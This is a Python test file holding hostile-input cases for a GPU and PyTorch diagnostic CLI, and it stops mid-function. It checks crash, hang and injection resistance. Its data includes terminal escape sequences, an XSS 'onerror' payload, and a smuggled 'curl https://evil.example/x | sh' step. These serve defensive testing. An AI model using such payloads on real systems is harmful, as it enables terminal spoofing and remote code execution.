"""The hostile-input corpus: one ``Case`` per bad input, as data.

A case says how its input is built (a function that writes files, sets variables, replaces the fake
nvidia-smi or NVML, and returns the command line after ``python -m doctor``), which exit codes are
acceptable (a subset of {0, 1, 2, 4}, plus 5 and 6 for ``fix``; never 3 and never a signal), how long
and how much memory the run may take, and any assertion of its own. test_hostile_cli.py adds the checks
every case shares: no Traceback, no "internal error", no raw control character on stdout or stderr (a
``json_stdout`` case's stdout must parse as JSON instead), nothing of the run left alive after it ended.

``xfail`` would hold what a case does today when it fails (the test is then ``xfail(strict=True)``, so
a fix that makes it pass must delete that line). Every case passes since issue 14: none is set.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from fakeenv import add_dist_info, make_fake_env, site_packages
from hostile import REPO, RTX5090, World, strip_fences, write_exe, write_fake_nvidia_smi
from hostile import write_script_smi as _script_smi

HUGE = "9" * 5000  # over CPython's 4,300-digit limit for int <-> str conversion
ESC_TITLE = "\x1b]0;PWNED\x07"  # OSC 0: retitles the terminal window
ESC_CLEAR = "\x1b[2J"  # CSI 2J: clears the screen
# + BS, and U+202E (right-to-left override: reorders what follows); CR only where a line break cannot split
# the input
ESCAPES = f"{ESC_TITLE}{ESC_CLEAR}\x1b[31m\x08\u202e"
HTML = "<img src=x onerror=alert(1)></details>"
COLLECT_ENV = REPO / "tests" / "fixtures" / "collect_env" / "composed-2.6.0-cu126-rtx5090d-issue150733.txt"
TABLE = REPO / "compat_tables" / "pytorch.json"


@dataclass
class Ctx:
    """What a case's build function works with and fills in."""

    world: World
    tmp: Path  # this case's own folder (also the working directory unless ``cwd`` is changed)
    env: dict[str, str]
    cwd: Path
    stdin: bytes | None = None
    outputs: list[Path] = field(default_factory=list)  # files the run writes: checked like stdout
    checks: list[Callable] = field(default_factory=list)  # extra assertions: fn(outcome, ctx)

    @property
    def py(self) -> str:
        return str(self.world.py)

    def expect(self, fn: Callable) -> None:
        self.checks.append(fn)

    def bin_dir(self, name: str = "bin") -> Path:
        """A fresh folder put first on PATH (for a replacement nvidia-smi)."""
        folder = self.tmp / name
        folder.mkdir(exist_ok=True)
        self.env["PATH"] = f"{folder}{os.pathsep}{self.env['PATH']}"
        return folder

    def no_smi(self) -> None:
        """No nvidia-smi at all: PATH without the fake machine's folder."""
        self.env["PATH"] = os.pathsep.join(
            p for p in self.env["PATH"].split(os.pathsep) if p != str(self.world.bin)
        )

    def report(self, **changes) -> dict:
        """A deep copy of the fake machine's report; ``changes`` are dotted paths -> values."""
        data = json.loads(json.dumps(self.world.report_data))
        for dotted, value in changes.items():
            set_path(data, dotted, value)
        return data

    def write(self, name: str, data) -> Path:
        path = self.tmp / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, bytes):
            path.write_bytes(data)
        elif isinstance(data, str):
            path.write_text(data, encoding="utf-8")
        else:
            path.write_text(json.dumps(data), encoding="utf-8")
        return path

    def nvml(self, **fake) -> None:
        """Turn NVML on and make pynvml load the fake libnvidia-ml.so.1 (FAKE_NVML_* settings)."""
        if self.world.nvml is None:
            import pytest

            pytest.skip(f"the fake NVML library could not be built: {self.world.nvml_why}")
        self.env["TORCHDOCTOR_NVML"] = "1"
        self.env["LD_LIBRARY_PATH"] = str(self.world.nvml)
        for key, value in fake.items():
            self.env[f"FAKE_NVML_{key.upper()}"] = value


def set_path(data, dotted: str, value) -> None:
    keys = [int(k) if k.isdigit() else k for k in dotted.split(".")]
    node = data
    for key in keys[:-1]:
        node = node[key]
    node[keys[-1]] = value


@dataclass
class Case:
    name: str
    group: str
    build: Callable[[Ctx], list]
    exits: frozenset[int]
    what: str
    limit: float = 20.0  # the guard kills the run here
    max_seconds: float | None = None  # an explicit bound on the wall time
    max_rss_mb: float = 300.0
    json_stdout: bool = False
    xfail: str | None = None
    settle: float = 2.0

    def __repr__(self) -> str:
        return f"Case({self.name})"


CASES: list[Case] = []


def case(name: str, group: str, exits=(0, 1), **options):
    def register(fn):
        if any(c.name == name for c in CASES):
            raise ValueError(f"duplicate case {name}")
        doc = " ".join((fn.__doc__ or "").split())
        CASES.append(Case(name, group, fn, frozenset(exits), doc, **options))
        return fn

    return register


def check(ctx: Ctx, *more: str) -> list:
    return ["check", "--no-smoke", "--python", ctx.py, *more]


# --- helpers for expectations ---------------------------------------------------------------------------


def finding_ids(outcome) -> set[str]:
    return {f["id"] for f in json.loads(outcome.stdout)["findings"]}


def expect_ids(ctx: Ctx, present=(), absent=()):
    def verify(outcome, _ctx):
        ids = finding_ids(outcome)
        assert set(present) <= ids, f"missing {set(present) - ids}; found {sorted(ids)}"
        assert not set(absent) & ids, f"unexpected {set(absent) & ids}; found {sorted(ids)}"

    ctx.expect(verify)


def expect_absent(ctx: Ctx, *needles: str, where: str = "all"):
    def verify(outcome, _ctx):
        text = {"out": outcome.out, "err": outcome.err}.get(where, outcome.text)
        for needle in needles:
            assert needle not in text, f"{needle!r} in the output"

    ctx.expect(verify)


# ==================================================================================================
# Crashes: inputs that made 0.1.0 exit 3
# ==================================================================================================


def _pyproject(ctx: Ctx, data: bytes) -> list:
    ctx.write("pyproject.toml", data)
    return check(ctx)


@case("pyproject-not-utf8", "crash", exits=(1, 2))
def _(ctx):
    """./pyproject.toml in Latin-1 (not UTF-8) with a [tool.torchdoctor] table: ignored or one line, exit
    1/2."""
    return _pyproject(ctx, b'[tool.torchdoctor]\nrequire = ["cpu"]\n# caf\xe9\n')


@case("pyproject-utf16", "crash", exits=(1, 2))
def _(ctx):
    """./pyproject.toml saved as UTF-16 with a BOM (PowerShell's `>`)."""
    return _pyproject(ctx, '[tool.torchdoctor]\nrequire = ["cpu"]\n'.encode("utf-16"))


@case("pyproject-deeply-nested", "crash", exits=(1, 2))
def _(ctx):
    """./pyproject.toml whose [tool.torchdoctor] holds an array nested 100,000 deep."""
    return _pyproject(ctx, b"[tool.torchdoctor]\nx = " + b"[" * 100_000 + b"]" * 100_000 + b"\n")


@case(
    "pyproject-huge-int",
    "crash",
    exits=(1, 2, 4),
)
def _(ctx):
    """./pyproject.toml with `min-gpus = <5000 digits>`."""
    return _pyproject(ctx, f"[tool.torchdoctor]\nmin-gpus = {HUGE}\n".encode())


@case("config-not-utf8", "crash", exits=(2,))
def _(ctx):
    """`--config` naming a Latin-1 pyproject.toml: a usage error, exit 2."""
    path = ctx.write("conf/pyproject.toml", b'[tool.torchdoctor]\nrequire = ["cpu"]\n# caf\xe9\n')
    return check(ctx, "--config", str(path))


@case(
    "driver-env-huge-int",
    "crash",
    exits=(1, 2),
)
def _(ctx):
    """TORCHDOCTOR_DRIVER_VERSION=<5000 digits>.1: refused (exit 2) or ignored; the RTX 5090 error stays."""
    ctx.env["TORCHDOCTOR_DRIVER_VERSION"] = HUGE + ".1"
    return check(ctx)


@case(
    "smi-banner-huge-driver-cuda-na",
    "crash",
    exits=(1, 2),
)
def _(ctx):
    """nvidia-smi's banner says `Driver Version: <5000 digits>.1  CUDA Version: N/A`."""
    write_fake_nvidia_smi(ctx.bin_dir(), [RTX5090], driver=HUGE + ".1", cuda="N/A")
    return check(ctx)


@case(
    "report-huge-driver",
    "crash",
    exits=(1, 2),
)
def _(ctx):
    """`--from` a report whose driver version is <5000 digits>.1."""
    return [
        "check",
        "--from",
        ctx.write("r.json", ctx.report(**{"snapshot.nvidia.driver_version.value": HUGE + ".1"})),
    ]


@case(
    "collect-env-huge-driver",
    "crash",
    exits=(1, 2),
)
def _(ctx):
    """`--from` collect_env text whose `Nvidia driver version:` is <5000 digits>.1."""
    text = COLLECT_ENV.read_text().replace(
        "Nvidia driver version: 570.124.04", f"Nvidia driver version: {HUGE}.1"
    )
    return ["check", "--from", ctx.write("env.txt", text)]


@case(
    "report-huge-python-version",
    "crash",
    exits=(1, 2),
)
def _(ctx):
    """`--from` a report whose interpreter version is 3.<5000 digits>."""
    return [
        "check",
        "--from",
        ctx.write("r.json", ctx.report(**{"snapshot.interpreter.version": "3." + HUGE})),
    ]


@case(
    "collect-env-huge-python-version",
    "crash",
    exits=(1, 2),
)
def _(ctx):
    """`--from` collect_env text whose `Python version:` is 3.<5000 digits>."""
    text = re.sub(
        r"^Python version: 3\.12\.9", f"Python version: 3.{HUGE}", COLLECT_ENV.read_text(), flags=re.M
    )
    return ["check", "--from", ctx.write("env.txt", text)]


@case("report-huge-gpu-index", "crash", exits=(1, 2))
def _(ctx):
    """`--from` a report whose GPU index is a 5000-digit JSON integer."""
    text = json.dumps(ctx.report()).replace('"index": 0', f'"index": {HUGE}', 1)
    return ["check", "--from", ctx.write("r.json", text)]


@case("device-huge-index", "crash", exits=(1, 2))
def _(ctx):
    """`check --device <5000 digits>` with the smoke test on."""
    return ["check", "--python", ctx.py, "--device", HUGE, "--smoke-timeout", "10"]


@case(
    "table-huge-patch",
    "crash",
    exits=(1, 2),
)
def _(ctx):
    """`--table` whose torch 2.6 release lists a patch 2.6.<5000 digits>."""
    table = json.loads(TABLE.read_text())
    release = next(r for r in table["releases"] if r["minor"] == "2.6")
    release["patches"].append(dict(release["patches"][-1], torch=f"2.6.{HUGE}"))
    return check(ctx, "--table", str(ctx.write("table.json", table)))


@case(
    "torch-spec-huge",
    "crash",
    exits=(2, 4),
)
def _(ctx):
    """`--torch '>=<5000 digits>'`: a usage error or an unmet requirement."""
    return check(ctx, "--torch", ">=" + HUGE)


@case("min-gpu-memory-huge", "crash", exits=(2, 4))
def _(ctx):
    """`--min-gpu-memory <5000 digits>GB`."""
    return check(ctx, "--min-gpu-memory", HUGE + "GB")


for _value in ("nan", "inf", "1e308"):

    @case(
        f"distributed-timeout-{_value}",
        "crash",
        exits=(2,),
    )
    def _(ctx, _value=_value):
        """`distributed --timeout <non-finite or huge>`: a usage error before anything starts."""
        return ["distributed", "--python", ctx.py, "--timeout", _value]


for _value in ("inf", "1e308"):

    @case(
        f"smoke-timeout-{_value}",
        "crash",
        exits=(2,),
    )
    def _(ctx, _value=_value):
        """`check --smoke-timeout <non-finite or huge>`: a usage error."""
        return ["check", "--python", ctx.py, "--smoke-timeout", _value]


@case("smoke-timeout-nan", "crash", exits=(2,))
def _(ctx):
    """`check --smoke-timeout nan`: a usage error."""
    return ["check", "--python", ctx.py, "--smoke-timeout", "nan"]


def _fleet_dir(ctx: Ctx, **changes) -> Path:
    folder = ctx.tmp / "reports"
    folder.mkdir(exist_ok=True)
    (folder / "node-a.json").write_text(json.dumps(ctx.report(**changes)))
    (folder / "node-b.json").write_text(json.dumps(ctx.world.report_data))
    return folder


@case(
    "fleet-rich-markup",
    "crash",
    exits=(0, 1),
)
def _(ctx):
    """`fleet summarize` of a report whose GPU name, driver and torch version contain `[/]` and `[bold]`."""
    folder = _fleet_dir(
        ctx,
        **{
            "snapshot.nvidia.gpus.0.name": "GPU [/] [bold]x[/bold]",
            "snapshot.nvidia.driver_version.value": "570.124.04[/]",
            "snapshot.install.torch.version": "2.6.0+cu126[/]",
        },
    )
    return ["fleet", "summarize", str(folder)]


@case(
    "fleet-output-is-folder",
    "crash",
    exits=(2,),
)
def _(ctx):
    """`fleet summarize -o <a folder>`: one line, exit 2."""
    (ctx.tmp / "out").mkdir()
    return ["fleet", "summarize", str(_fleet_dir(ctx)), "--json", "-o", str(ctx.tmp / "out")]


@case(
    "fleet-output-missing-parent",
    "crash",
    exits=(0, 1, 2),
)
def _(ctx):
    """`fleet summarize -o missing/dir/summary.md`: created, or one line and exit 2."""
    ctx.outputs.append(ctx.tmp / "missing" / "dir" / "s.md")
    return [
        "fleet",
        "summarize",
        str(_fleet_dir(ctx)),
        "--markdown",
        "-o",
        str(ctx.tmp / "missing" / "dir" / "s.md"),
    ]


@case("nvml-segfault-on-load", "crash", exits=(1,))
def _(ctx):
    """A libnvidia-ml.so.1 whose constructor segfaults: NVML is a failed probe; nvidia-smi still answers."""
    ctx.nvml(load="segv")
    return check(ctx)


@case("nvml-abort-on-load", "crash", exits=(1,))
def _(ctx):
    """A libnvidia-ml.so.1 whose constructor calls abort()."""
    ctx.nvml(load="abort")
    return check(ctx)


@case("nvml-segfault-in-init", "crash", exits=(1,))
def _(ctx):
    """A libnvidia-ml.so.1 whose nvmlInitWithFlags segfaults."""
    ctx.nvml(init="segv")
    return check(ctx)


@case("nvml-abort-in-init", "crash", exits=(1,))
def _(ctx):
    """A libnvidia-ml.so.1 whose nvmlInitWithFlags calls abort()."""
    ctx.nvml(init="abort")
    return check(ctx)


@case(
    "nvml-prints-on-load-json",
    "crash",
    exits=(1,),
    json_stdout=True,
)
def _(ctx):
    """A libnvidia-ml.so.1 that writes to fd 1 when loaded: `check --json` stdout must still be one JSON
    document."""
    ctx.nvml(load="print")
    return check(ctx, "--json")


@case("nvml-hangs-in-init", "crash", exits=(1,), max_seconds=12)
def _(ctx):
    """A libnvidia-ml.so.1 whose nvmlInitWithFlags never returns: the 5 s NVML limit, then nvidia-smi."""
    ctx.nvml(init="hang")
    return check(ctx)


# ==================================================================================================
# Hangs and memory
# ==================================================================================================


@case(
    "smi-flood",
    "hang",
    exits=(0, 1),
    max_seconds=10,
    limit=15,
)
def _(ctx):
    """An nvidia-smi that prints its banner line forever (`yes`): < 10 s and < 300 MB RSS."""
    line = "| NVIDIA-SMI 570.124.04   Driver Version: 570.124.04   CUDA Version: 12.8 |"
    write_exe(ctx.bin_dir() / "nvidia-smi", f"#!/bin/sh\nexec yes '{line}'\n")
    return check(ctx)


@case(
    "from-dev-zero",
    "hang",
    exits=(2,),
    max_seconds=5,
    limit=10,
)
def _(ctx):
    """`check --from /dev/zero`: one line, exit 2, at once."""
    return ["check", "--from", "/dev/zero"]


@case(
    "from-dev-urandom",
    "hang",
    exits=(2,),
    max_seconds=5,
    limit=10,
)
def _(ctx):
    """`check --from /dev/urandom`: one line, exit 2, at once."""
    return ["check", "--from", "/dev/urandom"]


@case(
    "from-fifo",
    "hang",
    exits=(2,),
    max_seconds=5,
    limit=6,
)
def _(ctx):
    """`check --from <a FIFO nobody writes>`: one line, exit 2."""
    os.mkfifo(ctx.tmp / "pipe.json")
    return ["check", "--from", str(ctx.tmp / "pipe.json")]


@case("from-folder-with-fifo", "hang", exits=(1, 2), max_seconds=5, limit=6)
def _(ctx):
    """`check --from <folder>` holding a report and a FIFO named *.json: the FIFO is skipped or listed."""
    folder = _fleet_dir(ctx)
    os.mkfifo(folder / "pipe.json")
    return ["check", "--from", str(folder)]


@case(
    "fleet-folder-with-fifo",
    "hang",
    exits=(0, 1, 2),
    max_seconds=5,
    limit=6,
)
def _(ctx):
    """`fleet summarize <folder>` holding reports and a FIFO named *.json."""
    folder = _fleet_dir(ctx)
    os.mkfifo(folder / "pipe.json")
    return ["fleet", "summarize", str(folder)]


def _sysroot(ctx: Ctx, relative: str, kind: str) -> list:
    root = ctx.tmp / "sysroot"
    target = root / relative
    target.parent.mkdir(parents=True, exist_ok=True)
    if kind == "fifo":
        os.mkfifo(target)
    else:
        target.symlink_to(kind)
    ctx.env["TORCHDOCTOR_SYSROOT"] = str(root)
    return check(ctx)


@case(
    "sysroot-proc-version-fifo",
    "hang",
    exits=(0, 1),
    max_seconds=8,
    limit=9,
)
def _(ctx):
    """TORCHDOCTOR_SYSROOT whose proc/version is a FIFO."""
    return _sysroot(ctx, "proc/version", "fifo")


@case(
    "sysroot-proc-version-dev-zero",
    "hang",
    exits=(0, 1),
    max_seconds=8,
    limit=10,
)
def _(ctx):
    """TORCHDOCTOR_SYSROOT whose proc/version links to /dev/zero."""
    return _sysroot(ctx, "proc/version", "/dev/zero")


@case(
    "sysroot-meminfo-fifo",
    "hang",
    exits=(0, 1),
    max_seconds=8,
    limit=9,
)
def _(ctx):
    """TORCHDOCTOR_SYSROOT whose proc/meminfo is a FIFO."""
    return _sysroot(ctx, "proc/meminfo", "fifo")


@case("sysroot-cgroup-deep", "hang", exits=(0, 1), max_seconds=8, limit=10)
def _(ctx):
    """TORCHDOCTOR_SYSROOT whose proc/self/cgroup names a cgroup 100,000 levels deep (the walk up to the
    root was quadratic in the depth)."""
    root = ctx.tmp / "sysroot"
    (root / "proc" / "self").mkdir(parents=True)
    (root / "proc" / "self" / "cgroup").write_text("0::/" + "/".join(["a"] * 100_000) + "\n")
    ctx.env["TORCHDOCTOR_SYSROOT"] = str(root)
    return check(ctx)


@case("sysroot-meminfo-dev-zero", "hang", exits=(0, 1), max_seconds=8, limit=10)
def _(ctx):
    """TORCHDOCTOR_SYSROOT whose proc/meminfo links to /dev/zero."""
    return _sysroot(ctx, "proc/meminfo", "/dev/zero")


@case(
    "sysroot-nvidia-version-fifo",
    "hang",
    exits=(0, 1),
    max_seconds=8,
    limit=9,
)
def _(ctx):
    """No nvidia-smi, and TORCHDOCTOR_SYSROOT whose sys/module/nvidia/version is a FIFO."""
    ctx.no_smi()
    return _sysroot(ctx, "sys/module/nvidia/version", "fifo")


@case(
    "sysroot-nvidia-version-dev-zero",
    "hang",
    exits=(0, 1),
    max_seconds=8,
    limit=10,
)
def _(ctx):
    """No nvidia-smi, and TORCHDOCTOR_SYSROOT whose sys/module/nvidia/version links to /dev/zero."""
    ctx.no_smi()
    return _sysroot(ctx, "sys/module/nvidia/version", "/dev/zero")


@case(
    "markdown-unclosed-fences",
    "hang",
    exits=(1, 2),
    max_seconds=5,
    limit=6,
)
def _(ctx):
    """A 2 MB Markdown paste: `report_schema_version` once, then ```json + `{` fences never closed."""
    chunk = "```json\n{\n"
    text = "report_schema_version\n" + chunk * ((2 << 20) // len(chunk))
    return ["check", "--from", ctx.write("paste.md", text)]


# ==================================================================================================
# Wrong answers from bad facts
# ==================================================================================================


@case(
    "report-driver-version-list",
    "wrong",
    exits=(1, 2),
)
def _(ctx):
    """`--from` a report whose driver_version value is a list: rejected (exit 2) or still the RTX 5090
    error."""
    data = ctx.report(**{"snapshot.nvidia.driver_version.value": ["570.124.04"]})
    return ["check", "--from", ctx.write("r.json", data)]


@case(
    "driver-env-not-a-version",
    "wrong",
    exits=(1, 2),
)
def _(ctx):
    """TORCHDOCTOR_DRIVER_VERSION=abc: refused (exit 2), never shown as a driver version from nvidia-smi."""
    ctx.env["TORCHDOCTOR_DRIVER_VERSION"] = "abc"
    ctx.expect(
        lambda o, c: not re.search(r"Driver\s+abc", o.out) or _fail("'abc' shown as the driver version")
    )
    return check(ctx)


def _fail(message: str):
    raise AssertionError(message)


for _value in ("-1", "0", "nan", "inf"):

    @case(f"nvidia-timeout-{_value}", "wrong", exits=(1, 2))
    def _(ctx, _value=_value):
        """TORCHDOCTOR_NVIDIA_TIMEOUT set to an impossible value: refused (exit 2) or ignored; the fake
        nvidia-smi's driver is still found and nothing says the driver hangs."""
        ctx.env["TORCHDOCTOR_NVIDIA_TIMEOUT"] = _value

        def verify(outcome, _ctx):
            if outcome.returncode != 2:
                assert "570.124.04" in outcome.out and "hung" not in outcome.text, outcome.out[:600]

        ctx.expect(verify)
        return check(ctx)


@case(
    "version-py-huge-int",
    "wrong",
    exits=(1,),
    json_stdout=True,
)
def _(ctx):
    """torch/version.py says `debug = <5000 digits>`: torch 2.6.0+cu126 is still found (not
    torch-not-installed)."""
    py = make_fake_env(ctx.tmp / "venv", torch="2.6.0+cu126", cuda="12.6")
    version_py = site_packages(ctx.tmp / "venv") / "torch" / "version.py"
    version_py.write_text(version_py.read_text().replace("debug = False", f"debug = {HUGE}"))
    expect_ids(ctx, present={"gpu-arch-unsupported"}, absent={"torch-not-installed", "torch-inspect-failed"})
    return ["check", "--no-smoke", "--json", "--python", str(py)]


@case(
    "companion-pins-local-tag",
    "wrong",
    exits=(0,),
    json_stdout=True,
)
def _(ctx):
    """torchvision/torchaudio requiring `torch==2.7.1+cu128` beside torch 2.7.1+cu128: no mismatch, exit 0."""
    py = make_fake_env(ctx.tmp / "venv", torch="2.7.1+cu128", cuda="12.8")
    site = site_packages(ctx.tmp / "venv")
    for name, version in (("torchvision", "0.22.1+cu128"), ("torchaudio", "2.7.1+cu128")):
        add_dist_info(
            site,
            name,
            version,
            ["numpy", "torch==2.7.1+cu128"],
            "pip",
            {f"{name}/__init__.py": "", f"{name}/version.py": f"__version__ = {version!r}\n"},
        )
    add_dist_info(site, "numpy", "2.2.6")  # what the companions declare, as pip would have installed it
    expect_ids(ctx, absent={"torchvision-mismatch", "torchaudio-mismatch"})
    return ["check", "--no-smoke", "--json", "--python", str(py)]


@case(
    "pip-leftover-tilde-folders",
    "wrong",
    exits=(1,),
)
def _(ctx):
    """What an interrupted `fix` left on 0.1.0: torch 2.7.1+cu128 beside torchvision 0.21.0+cu126 (which
    requires torch 2.6.0) and pip's renamed `~orch/`, `~orch-2.6.0+cu126.dist-info/`: check names the
    leftovers."""
    py = make_fake_env(ctx.tmp / "venv", torch="2.7.1+cu128", cuda="12.8")
    site = site_packages(ctx.tmp / "venv")
    add_dist_info(
        site,
        "torchvision",
        "0.21.0+cu126",
        ["numpy", "torch==2.6.0"],
        "pip",
        {"torchvision/__init__.py": "", "torchvision/version.py": "__version__ = '0.21.0+cu126'\n"},
    )
    (site / "~orch").mkdir()
    (site / "~orch" / "__init__.py").write_text("")
    (site / "~orch-2.6.0+cu126.dist-info").mkdir()
    ctx.expect(lambda o, c: "~orch" in o.out or _fail("no mention of the ~orch leftovers"))
    return ["check", "--no-smoke", "--python", str(py)]


# ==================================================================================================
# Terminal injection: escape sequences from inputs must not reach the terminal raw
# ==================================================================================================


@case("smi-gpu-name-escapes", "inject", exits=(1,))
def _(ctx):
    """nvidia-smi names the GPU with OSC/CSI sequences, CR and BS."""
    write_fake_nvidia_smi(ctx.bin_dir(), [dict(RTX5090, name="NVIDIA GeForce RTX 5090" + ESCAPES)])
    return check(ctx, "-v")


@case(
    "smi-error-escapes",
    "inject",
    exits=(1,),
)
def _(ctx):
    """nvidia-smi fails with an error text carrying escape sequences."""
    _script_smi(
        ctx.bin_dir(),
        f"sys.stdout.write('Failed to initialize NVML: Unknown Error{ESCAPES}\\n'); sys.exit(255)",
    )
    return check(ctx, "-v")


@case(
    "nvml-gpu-name-escapes",
    "inject",
    exits=(1,),
)
def _(ctx):
    """NVML names the GPU with escape sequences."""
    ctx.nvml(name="NVIDIA GeForce RTX 5090" + ESCAPES)
    return check(ctx, "-v")


@case("nvml-error-escapes", "inject", exits=(0, 1))
def _(ctx):
    """NVML init fails with an unknown code whose nvmlErrorString carries escape sequences; no nvidia-smi."""
    ctx.nvml(init="77", error="NVML broke" + ESCAPES)
    ctx.no_smi()
    return check(ctx, "-v")


@case(
    "from-report-escapes",
    "inject",
    exits=(1, 2),
)
def _(ctx):
    """`--from` a report whose GPU name, interpreter path, nvidia detail and host name carry escape
    sequences."""
    data = ctx.report(
        **{
            "snapshot.nvidia.gpus.0.name": "NVIDIA GeForce RTX 5090" + ESCAPES + "\rforged line",
            "snapshot.interpreter.path": "/opt/py" + ESCAPES + "/bin/python",
            "snapshot.nvidia.detail": "detail" + ESCAPES,
            "snapshot.environment.hostname": "host" + ESCAPES,
        }
    )
    return ["check", "-v", "--from", ctx.write("r.json", data)]


@case("from-collect-env-escapes", "inject", exits=(0, 1, 2))
def _(ctx):
    """`--from` collect_env text whose GPU model and OS lines carry escape sequences."""
    text = COLLECT_ENV.read_text().replace("NVIDIA GeForce RTX 5090 D", "NVIDIA GeForce RTX 5090 D" + ESCAPES)
    text = text.replace("OS: Ubuntu 24.10", "OS: Ubuntu 24.10" + ESCAPES)
    return ["check", "-v", "--from", ctx.write("env.txt", text)]


def _odd_python(ctx: Ctx, name: str) -> Path:
    make_fake_env(ctx.tmp / "venv", torch="2.6.0+cu126", cuda="12.6")
    link = ctx.tmp / "venv" / "bin" / name
    link.symlink_to("python")
    return link


@case(
    "python-path-escapes",
    "inject",
    exits=(1, 2),
)
def _(ctx):
    """`--python` names an interpreter whose file name carries escape sequences."""
    return ["check", "--no-smoke", "--python", str(_odd_python(ctx, "py" + ESC_TITLE + ESC_CLEAR + "thon"))]


@case(
    "python-path-tab",
    "inject",
    exits=(1, 2),
)
def _(ctx):
    """`--python` path with a TAB: printed so that it names the same file (escaped or quoted), never as
    spaces."""
    link = _odd_python(ctx, "py\tthon")
    ctx.expect(lambda o, c: not re.search(r"py +thon", o.out) or _fail("the TAB was printed as spaces"))
    return ["check", "--no-smoke", "--python", str(link)]


@case(
    "index-url-base-escapes",
    "inject",
    exits=(1, 2),
)
def _(ctx):
    """`fix --dry-run --index-url-base` with escape sequences: refused (exit 2) or shown escaped."""
    return [
        "fix",
        "--dry-run",
        "--no-smoke",
        "--python",
        ctx.py,
        "--index-url-base",
        "https://mirror.example/whl" + ESC_TITLE + ESC_CLEAR,
    ]


@case(
    "index-url-base-newline",
    "inject",
    exits=(1, 2),
)
def _(ctx):
    """`fix --dry-run --index-url-base` with a newline and a fake step: no printed line starts with it."""

    def verify(outcome, _ctx):
        for line in outcome.text.splitlines():
            assert not re.match(r"\s*(step 2/2: )?curl ", line), f"forged line printed: {line!r}"

    ctx.expect(verify)
    return [
        "fix",
        "--dry-run",
        "--no-smoke",
        "--python",
        ctx.py,
        "--index-url-base",
        "https://mirror.example/whl\nstep 2/2: curl https://evil.example/x | sh\n",
    ]


@case("table-version-escapes", "inject", exits=(1, 2))
def _(ctx):
    """`--table` whose table_version carries escape sequences: refused (exit 2) or shown escaped."""
    table = json.loads(TABLE.read_text())
    table["table_version"] = "2026.11.29" + ESCAPES
    return check(ctx, "--table", str(ctx.write("table.json", table)))


for _fmt in ("text", "markdown"):

    @case(f"fleet-escapes-{_fmt}", "inject", exits=(0, 1))
    def _(ctx, _fmt=_fmt):
        """`fleet summarize` of reports whose GPU name, driver, torch build and host carry escape
        sequences."""
        folder = _fleet_dir(
            ctx,
            **{
                "snapshot.nvidia.gpus.0.name": "NVIDIA GeForce RTX 5090" + ESCAPES,
                "snapshot.nvidia.driver_version.value": "570.124.04" + ESCAPES,
                "snapshot.install.torch.version": "2.6.0+cu126" + ESCAPES,
                "snapshot.environment.hostname": "node" + ESCAPES,
            },
        )
        return ["fleet", "summarize", str(folder)] + (["--markdown"] if _fmt == "markdown" else [])


def _no_live_html(outcome, _ctx):
    live = strip_fences(outcome.out)
    assert "<img" not in live, "raw <img> outside code fences"
    assert live.count("</details>") <= live.count("<details>"), "an extra </details> outside code fences"


@case("markdown-gpu-name-html", "inject", exits=(1,))
def _(ctx):
    """`check --format markdown` with a GPU named `<img onerror></details>`: no live HTML outside code
    fences."""
    write_fake_nvidia_smi(ctx.bin_dir(), [dict(RTX5090, name="RTX 5090 " + HTML)])
    ctx.expect(_no_live_html)
    return check(ctx, "--format", "markdown")


@case("markdown-from-report-html", "inject", exits=(1, 2))
def _(ctx):
    """`check --from report --format markdown` with HTML in the GPU name and the host name."""
    data = ctx.report(
        **{"snapshot.nvidia.gpus.0.name": "RTX 5090 " + HTML, "snapshot.environment.hostname": HTML}
    )
    ctx.expect(_no_live_html)
    return ["check", "--from", ctx.write("r.json", data), "--format", "markdown"]


@case("cuda-visible-devices-escapes", "inject", exits=(0, 1))
def _(ctx):
    """CUDA_VISIBLE_DEVICES holding escape sequences (a hazard finding quotes it)."""
    ctx.env["CUDA_VISIBLE_DEVICES"] = "0," + ESCAPES
    return check(ctx, "-v")


# ==================================================================================================
# Beyond the list: the same classes of fault through other doors
# ==================================================================================================


@case(
    "table-dev-zero",
    "extra",
    exits=(2,),
    max_seconds=5,
    limit=10,
)
def _(ctx):
    """`--table /dev/zero`: a broken table, one line, exit 2."""
    return check(ctx, "--table", "/dev/zero")


@case(
    "table-fifo",
    "extra",
    exits=(2,),
    max_seconds=5,
    limit=6,
)
def _(ctx):
    """`--table <a FIFO nobody writes>`: one line, exit 2."""
    os.mkfifo(ctx.tmp / "table.json")
    return check(ctx, "--table", str(ctx.tmp / "table.json"))


@case(
    "github-summary-fifo",
    "extra",
    exits=(1, 2),
    max_seconds=5,
    limit=6,
)
def _(ctx):
    """`--format github` with GITHUB_STEP_SUMMARY naming a FIFO nobody reads: annotations, then one line."""
    os.mkfifo(ctx.tmp / "summary")
    ctx.env["GITHUB_STEP_SUMMARY"] = str(ctx.tmp / "summary")
    return check(ctx, "--format", "github")


@case(
    "fleet-dev-zero",
    "extra",
    exits=(1, 2),
    max_seconds=5,
    limit=10,
)
def _(ctx):
    """`fleet summarize /dev/zero <a report>`: /dev/zero listed as unreadable."""
    return ["fleet", "summarize", "/dev/zero", str(ctx.world.report)]


@case(
    "python-floods-stdout",
    "extra",
    exits=(1, 2),
    max_seconds=25,
    limit=30,
)
def _(ctx):
    """`--python` names an 'interpreter' that prints forever (`yes`): the inspector's limit, bounded
    memory."""
    python = write_exe(ctx.tmp / "bin" / "python3", "#!/bin/sh\nexec yes 'not the inspector protocol'\n")
    return ["check", "--no-smoke", "--python", str(python)]


@case(
    "torch-import-floods-stdout",
    "extra",
    exits=(1,),
    max_seconds=15,
    limit=20,
)
def _(ctx):
    """torch's import prints forever: the smoke test's own limit (--smoke-timeout 5), bounded memory."""
    py = make_fake_env(ctx.tmp / "venv", torch="2.6.0+cu126", cuda="12.6")
    (site_packages(ctx.tmp / "venv") / "torch" / "__init__.py").write_text(
        "import sys\nwhile True:\n    sys.stdout.write('x' * 65536)\n"
    )
    return ["check", "--python", str(py), "--smoke-timeout", "5"]


# ==================================================================================================
# Usage errors for impossible values
# ==================================================================================================

for _n in ("0", "-1", "1000"):

    @case(
        f"distributed-nproc-{_n}",
        "usage",
        exits=(2,),
    )
    def _(ctx, _n=_n):
        """`distributed --nproc-per-node` <= 0 or above the CPUs/GPUs here: exit 2 before anything starts."""
        return ["distributed", "--python", ctx.py, "--nproc-per-node", _n]


for _value in ("0", "-1"):

    @case(
        f"distributed-timeout-{_value}",
        "usage",
        exits=(2,),
    )
    def _(ctx, _value=_value):
